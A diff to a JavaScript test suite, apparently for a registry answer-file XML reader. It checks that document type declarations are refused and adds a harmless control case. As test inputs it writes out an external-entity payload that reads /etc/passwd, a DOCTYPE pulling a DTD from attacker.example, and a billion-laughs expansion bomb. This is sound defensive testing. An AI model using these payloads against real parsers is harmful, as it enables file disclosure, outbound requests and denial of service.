@@ -51,7 +51,9 @@ describe("a file of the registry's answers", () => {
   it("refuses document types: no entity is expanded, and nothing is fetched", () => {
     const entry = "<a><e><upi>&x;</upi><registrationId>R</registrationId></e></a>";
     expect(refusal(`<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>${entry}`)).toBe("invalid_answer_file");
-    expect(refusal(`<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">${entry}`)).toBe("invalid_answer_file");
+    const harmless = entry.replace("&x;", "urn:a");
+    expect(read(harmless)).toHaveLength(1);
+    expect(refusal(`<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">${harmless}`)).toBe("invalid_answer_file");
     const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join("");
     expect(refusal(`<!DOCTYPE a [<!ENTITY l0 "ha">${laughs}]><a><upi>&l9;</upi></a>`)).toBe("invalid_answer_file");
     expect(refusal(entry)).toBe("invalid_answer_file");
